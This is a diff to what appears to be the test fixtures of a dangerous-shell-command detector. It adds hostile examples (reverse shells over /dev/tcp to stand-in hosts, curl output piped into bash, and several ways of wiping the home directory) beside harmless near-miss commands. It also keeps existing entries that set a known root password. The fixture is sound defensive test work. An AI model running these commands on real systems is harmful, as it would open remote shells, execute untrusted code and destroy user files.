@@ -77,12 +77,27 @@ DANGEROUS = {
         "ln -s /dev/shm/t.service ~/.config/systemd/user/default.target.wants/t.service",
         "pass rm --recursive --force work", "gopass rm -rf personal",
     ],
+    "neighbours of the false-alarm fixes that still need typing": [
+        "exec 0<>/dev/tcp/198.51.100.1/4444", "exec 5<>/dev/tcp/198.51.100.1/443; sh <&5 >&5",
+        "exec 3<>/dev/tcp/x.example/80; printf 'GET /s\\r\\n\\r\\n' >&3; cat <&3 | bash",
+        "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "rsync -a --delete /var/empty/ ~/",
+        "rm -f ~/.z*", "echo rm -rf ~ | sh", "echo ~/Music | xargs rm -rf",
+        "xargs -I% sh -c 'rm -rf %' <<< '~/.ssh'", "d=~/Videos; rm -rf \"$d\"",
+        "curl -s https://x.example/i.sh | bash -x", "rm -rf ~/\"Pictures\"",
+    ],
     "a root password set to a known value": [
         "echo 'root:hunter2' | sudo chpasswd", "sudo chpasswd <<< \"root:toor\"",
     ],
 }
 
 HARMLESS = [
+    "bash -c 'exec 3<>/dev/tcp/127.0.0.1/6379; printf \"PING\\r\\n\" >&3; head -c 7 <&3'",
+    "exec 3<>/dev/tcp/example.org/80 && printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3",
+    "rsync -an --delete ./site/ ~/", "rsync --dry-run -a --delete /var/empty/ ~/Music/",
+    "rm -f ~/.zcompdump-$HOST*", "echo rm -rf ~/Documents", "echo reboot now; echo done",
+    "rm -rf '~'", "rm -rf \"~/Documents\"", "find . -maxdepth 1 -name '~*' -delete",
+    "curl -s https://x.example/install.sh | bash -n", "bash -n ./deploy.sh",
+    "xargs -I% echo 'would delete %' <<< 'rm -rf ~/.gnupg'",
     "curl -s https://x.example/c.c | gcc -x c -o c -", "gcc hello.c -o hello && ./hello",
     "diff <(nc -l 9000) expected.txt", "vim -c 'call system(\"ls | wc -l\")' -c q",
     "vim -c 'g/TODO/p|q' notes.txt", "pass rm old/entry", "pass show -c bank",
